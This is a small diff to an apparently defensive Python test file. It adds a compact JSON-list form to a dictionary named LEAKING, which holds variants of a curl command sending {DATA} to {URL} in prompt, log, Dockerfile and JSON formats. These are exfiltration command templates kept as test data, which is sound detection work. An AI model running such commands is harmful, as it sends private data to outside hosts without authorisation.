@@ -34,6 +34,7 @@ LEAKING = {
     "a prompt": f"$ curl -G {URL} -d {DATA}",
     "a log": f"2026-11-20T10:00:00Z INFO exec: /usr/bin/curl -G {URL} -d {DATA} took 3 s",
     "a list of words": json.dumps(["curl", "-G", URL, "-d", DATA]),
+    "a list of words without blanks": json.dumps(["curl", "-G", URL, "-d", DATA], separators=(",", ":")),
     "a list of words in a file": f'CMD ["curl", "-G", "{URL}", "-d", "{DATA}"]',
     "JSON in a line": json.dumps({"cmd": f'curl -G {URL} -d "{DATA}"', "status": "ok"}),
     "JSON over lines": json.dumps({"cmd": f"curl -G {URL} \\\n -d '{DATA}'", "status": "ok"}, indent=1),
